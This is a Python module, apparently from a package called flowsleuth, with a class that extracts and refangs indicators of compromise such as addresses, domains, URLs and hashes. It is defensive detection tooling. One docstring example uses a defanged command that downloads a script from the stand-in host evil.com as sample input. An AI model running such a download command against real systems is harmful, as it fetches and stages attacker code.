"""`IoCExtract`: indicators of compromise in a text, a list, a table or a file; in MSTICPy's call shapes."""

from __future__ import annotations

import re
from collections import defaultdict
from collections.abc import Iterable, Iterator, Sequence
from pathlib import Path
from typing import IO, TYPE_CHECKING, Any, cast

from flowsleuth.errors import OptionError, ReaderError
from flowsleuth.extract.ioc.columns import DEFAULT_OPTIONS, OwnType, by_type, find, find_in_lines, texts_of
from flowsleuth.extract.ioc.engine import ScanOptions
from flowsleuth.extract.ioc.kinds import DESCRIPTIONS, FILE, NAMES, NUMBERS, type_names
from flowsleuth.schema.tabular import (
    as_pandas,
    column_names,
    is_table,
    like,
    need_columns,
    one_column,
    row_labels,
    sound_text,
    text_column,
    text_values,
)

if TYPE_CHECKING:
    import pyarrow as pa

COLUMNS = ("IoCType", "Observable", "SourceIndex", "Input", "Column", "Start", "Found")
UNKNOWN = "unknown"
_HASHES = {32: "md5_hash", 40: "sha1_hash", 64: "sha256_hash", 128: "sha512_hash"}
_FLAGS = re.IGNORECASE | re.MULTILINE


class IoCExtract:
    """Finds indicators of compromise: addresses, names, URLs, mail addresses, hashes, paths, CVE and ATT&CK numbers …

    They come refanged and canonical - host names and hashes in lower case, IPv6 as RFC 5952 writes it -, with the
    spelling that was found and its place. Clock times, MAC addresses, versions and object identifiers are not taken for
    addresses, nor variables and methods of programs for domain names.

    Parameters
    ----------
    options : ScanOptions, optional
        Which names count as files' names, whether local names count, and which engine looks.

    Notes
    -----
    Names that are both a domain's and a file's (``setup.zip``) have a type of their own, ``file_name``, unless defanged
    or of three labels. A hash is told by its length alone: a commit's id is a ``sha1_hash``.

    Blind spots: names below private top-level domains unless ``local_names``; addresses written as one number; what is
    encoded (see :mod:`flowsleuth.extract` for base64).

    Examples
    --------
    >>> found = IoCExtract().extract("wget hxxp://evil[.]com:8080/x.sh -O /tmp/x; ping 198.51.100.7")
    >>> sorted(found.items())
    [('dns', {'evil.com'}), ('ipv4', {'198.51.100.7'}), ('url', {'http://evil.com:8080/x.sh'})]
    """

    def __init__(self, options: ScanOptions = DEFAULT_OPTIONS) -> None:
        self._options = options
        self._own: dict[str, OwnType] = {}

    @property
    def ioc_types(self) -> dict[str, str]:
        """Types by their name, with what each is; those added to this instance too."""
        return DESCRIPTIONS | {name: f"own: {one.pattern.pattern}" for name, one in self._own.items()}

    def add_ioc_type(
        self,
        ioc_type: str,
        ioc_regex: str | re.Pattern[str],
        priority: int = 0,
        group: str | int | None = None,
    ) -> None:
        """Look for something of your own too; other instances do not know it.

        Parameters
        ----------
        ioc_type : str
            Its name.
        ioc_regex : str or re.Pattern
            A text is compiled to ignore case, with ``^`` and ``$`` at each line.
        priority : int
            At the very same place the lower one wins: URLs and addresses have 0, hashes 1, names 2, paths 3 and 4.
        group : str or int, optional
            The group of the expression that is the observable; all of it when not given.

        Raises
        ------
        OptionError
            The name is a built-in type's, the expression is none, or it has no such group.

        Examples
        --------
        >>> iocs = IoCExtract()
        >>> iocs.add_ioc_type("ticket", r"\\bINC\\d{6}\\b")
        >>> iocs.extract("see inc123456")["ticket"]
        {'inc123456'}
        """
        if not ioc_type or not ioc_type.strip() or ioc_type in NUMBERS:
            raise OptionError("a type of your own needs a name of its own", where=repr(ioc_type), available=None)
        try:
            pattern = re.compile(ioc_regex, _FLAGS) if isinstance(ioc_regex, str) else ioc_regex
        except re.error as error:
            raise OptionError(f"not a regular expression: {error}", where=str(ioc_regex)) from None
        chosen = 0 if group is None else group
        if chosen not in pattern.groupindex and not (isinstance(chosen, int) and 0 <= chosen <= pattern.groups):
            raise OptionError("the expression has no such group", where=str(group), available=list(pattern.groupindex))
        self._own[ioc_type] = OwnType(pattern, priority, chosen)

    def extract(
        self,
        src: Any = None,
        data: Any = None,
        columns: str | Sequence[str] | None = None,
        *,
        ioc_types: str | Iterable[str] | None = None,
        include_paths: bool = False,
    ) -> Any:
        """Indicators in a text, a list, a table or a file.

        Parameters
        ----------
        src, data : str, list, table, pathlib.Path or binary file
            What to look in; either name will do.
        columns : str or sequence of str, optional
            Of a table; all of its columns of text when not given.
        ioc_types : str or iterable of str, optional
            Only these; see :attr:`ioc_types`. All but paths when not given.
        include_paths : bool
            ``windows_path`` and ``linux_path`` too.

        Returns
        -------
        dict of str to set of str
            For a text: what was found, by type; a type of which there is nothing has an empty set.
        table
            Of the same make as the one given - pandas for a list or a file -, a row for each finding: ``IoCType``,
            ``Observable`` (canonical), ``SourceIndex`` (label of the row; place in a list from 0; number of a line from
            1), ``Input`` (the text; null for the longest ones where they would take over 500 MB), ``Column`` (null for
            a list or a file), ``Start`` (characters from the text's begin) and ``Found`` (the spelling there).

        Raises
        ------
        OptionError
            Nothing was given, or there is no such column or type.

        Examples
        --------
        >>> import pandas
        >>> frame = pandas.DataFrame({"CommandLine": ["ping 198.51.100.7", None, "whoami"]}, index=[10, 11, 12])
        >>> IoCExtract().extract(data=frame, columns=["CommandLine"])[["IoCType", "Observable", "SourceIndex", "Start"]]
          IoCType    Observable  SourceIndex  Start
        0    ipv4  198.51.100.7           10      5
        """
        given = data if src is None else src
        types = self._types(ioc_types, include_paths)
        if given is None:
            raise OptionError("nothing to look in", where="data", hint="give a text, a list, a table or a file")
        if isinstance(given, str):
            return defaultdict(set, by_type([find(_one_text(given), types, self._options, self._own)]))
        if isinstance(given, Path) or hasattr(given, "read"):
            return as_pandas(_joined(list(self.in_file(given, ioc_types=types))))
        if is_table(given) and any(hasattr(given, name) for name in ("columns", "column_names", "table")):
            return like(self._in_table(given, columns, types), given)
        return as_pandas(self._in_list(given, types))

    def extract_df(
        self,
        data: Any,
        columns: str | Sequence[str] | None = None,
        *,
        ioc_types: str | Iterable[str] | None = None,
        include_paths: bool = False,
    ) -> Any:
        """Indicators in a table; as :meth:`extract`."""
        return self.extract(data=data, columns=columns, ioc_types=ioc_types, include_paths=include_paths)

    def in_file(
        self, file: str | Path | IO[bytes], *, ioc_types: str | Iterable[str] | None = None, include_paths: bool = False
    ) -> Iterator[pa.Table]:
        """Indicators in a file of any size, a table for some 16 MB of its lines at a time.

        Parameters
        ----------
        file : str, pathlib.Path or binary file
            Text, one record to a line; may be compressed with gzip, bzip2 or xz when given by its path.
        ioc_types, include_paths
            As of :meth:`extract`.

        Yields
        ------
        pyarrow.Table
            As of :meth:`extract`; ``SourceIndex`` is the number of the line, from 1.

        Raises
        ------
        ReaderError
            It cannot be read.
        """
        types = self._types(ioc_types, include_paths)
        if isinstance(file, str | Path):
            try:
                with _opened(Path(file)) as stream:
                    yield from self._in_stream(stream, types)
            except (OSError, EOFError) as error:
                raise ReaderError(f"cannot be read: {error}", where=str(file)) from None
        else:
            yield from self._in_stream(file, types)

    def validate(self, input_str: object, ioc_type: str, ignore_tlds: bool = False) -> bool:
        """Whether a text is, as a whole, one observable of a type.

        Parameters
        ----------
        input_str : object
            Blanks around it do not count; what is no text is none.
        ioc_type : str
        ignore_tlds : bool
            A domain name need not end with a known top-level domain.

        Examples
        --------
        >>> iocs = IoCExtract()
        >>> iocs.validate("198.51.100[.]7", "ipv4"), iocs.validate("300.1.1.1", "ipv4"), iocs.validate("a.zip", "dns")
        (True, False, True)
        """
        wanted = self._types(ioc_type, False)
        if not isinstance(input_str, str):
            return False
        text = input_str.strip()
        if ignore_tlds and wanted == ["dns"]:
            from flowsleuth.extract.domains import canonical_domain
            from flowsleuth.extract.refang import refang

            try:
                return "." in canonical_domain(refang(text)) and self.get_ioc_type(text) != "ipv4"
            except ValueError:
                return False
        also = [NAMES[FILE]] if wanted == ["dns"] else []
        found = find(_one_text(text), [*wanted, *also], self._options, self._own)
        return text in found["found"].to_pylist() if text else False

    def get_ioc_type(self, observable: object) -> str:
        """The type of a text that is one observable; ``unknown`` when it is none.

        Examples
        --------
        >>> IoCExtract().get_ioc_type("hxxp://evil[.]com/a"), IoCExtract().get_ioc_type("12:30:45")
        ('url', 'unknown')
        """
        if not isinstance(observable, str) or not observable.strip():
            return UNKNOWN
        text = observable.strip()
        found = find(_one_text(text), self._types(None, True), self._options, self._own).to_pylist()
        return cast(str, next((row["type"] for row in found if row["found"] == text), UNKNOWN))

    @staticmethod
    def file_hash_type(file_hash: object) -> str:
        """Which hash a text is, by its length and digits; ``unknown`` when it is none.

        Examples
        --------
        >>> IoCExtract.file_hash_type("d41d8cd98f00b204e9800998ecf8427e"), IoCExtract.file_hash_type("d41d8cd9")
        ('md5_hash', 'unknown')
        """
        text = file_hash.strip() if isinstance(file_hash, str) else ""
        return _HASHES.get(len(text), UNKNOWN) if re.fullmatch(r"[0-9A-Fa-f]+", text) else UNKNOWN

    def _types(self, asked: str | Iterable[str] | None, include_paths: bool) -> list[str]:
        return type_names(asked, [*NUMBERS, *self._own], include_paths)

    def _in_table(self, data: Any, columns: str | Sequence[str] | None, types: list[str]) -> pa.Table:
        import pyarrow as pa

        chosen = [columns] if isinstance(columns, str) else columns
        if chosen is None:
            chosen = text_columns(data)
        need_columns(data, chosen)
        labels = row_labels(data)
        parts = []
        for name in chosen:
            texts = text_column(data, name)
            parts.append(_findings(find(texts, types, self._options, self._own), texts, labels, str(name)))
        return _joined(parts, pa.array(labels).type)

    def _in_list(self, given: Any, types: list[str]) -> pa.Table:
        import pyarrow as pa

        if not isinstance(given, Iterable):
            raise OptionError("no text", where=type(given).__name__, hint="give a text, a list, a table or a file")
        is_arrow = isinstance(given, pa.Array | pa.ChunkedArray)
        texts = text_column(pa.table({"text": given}), "text") if is_arrow else text_values(given)
        labels = pa.array(given.index) if hasattr(given, "index") and hasattr(given, "iloc") else row_labels(texts)
        return _findings(find(texts, types, self._options, self._own), texts, labels, None)

    def _in_stream(self, stream: IO[bytes], types: list[str]) -> Iterator[pa.Table]:
        for found, lines in find_in_lines(stream, types, self._options, self._own):
            yield _rows(found, found["row"], lines, None)


def text_columns(data: Any) -> list[str]:
    """The columns of a table that hold text, in its order."""
    import pyarrow as pa

    def is_text(name: str) -> bool:
        if hasattr(data, "iloc"):
            kind = one_column(data, name).dtype
            return str(kind) in ("object", "str", "category") or str(kind).startswith("string")
        kind = (data if isinstance(data, pa.Table) else data.to_arrow()).schema.field(name).type
        kind = kind.value_type if pa.types.is_dictionary(kind) else kind
        return bool(pa.types.is_string(kind) or pa.types.is_large_string(kind) or str(kind) == "string_view")

    return [name for name in column_names(data) if is_text(name)]


def _findings(found: pa.Table, texts: pa.ChunkedArray, labels: pa.Array, column: str | None) -> pa.Table:
    inputs = texts_of(texts, found["row"])
    return _rows(found, labels.take(found["row"].combine_chunks()), inputs, column)


def _rows(found: pa.Table, index: Any, inputs: Any, column: str | None) -> pa.Table:
    import pyarrow as pa

    names = pa.nulls(len(found), pa.string()) if column is None else pa.repeat(pa.scalar(column), len(found))
    parts = [found["type"], found["observable"], index, inputs, names, found["start"], found["found"]]
    return pa.table(parts, names=list(COLUMNS))


def _joined(parts: list[pa.Table], index: Any = None) -> pa.Table:
    import pyarrow as pa

    if parts:
        return pa.concat_tables(parts)
    kinds = (pa.string(), pa.string(), index or pa.int64(), pa.string(), pa.string(), pa.int64(), pa.string())
    return pa.table([pa.array([], kind) for kind in kinds], names=list(COLUMNS))


def _one_text(text: str) -> pa.Array:
    import pyarrow as pa

    return pa.array([sound_text(text)], pa.string())


def _opened(path: Path) -> IO[bytes]:
    """The file, decompressed when its first bytes say that it is compressed."""
    import bz2
    import gzip
    import lzma

    with path.open("rb") as file:
        magic = file.read(6)
    if magic[:2] == b"\x1f\x8b":
        return cast(IO[bytes], gzip.open(path))
    if magic[:3] == b"BZh":
        return cast(IO[bytes], bz2.open(path))
    return cast(IO[bytes], lzma.open(path)) if magic == b"\xfd7zXZ\x00" else path.open("rb")
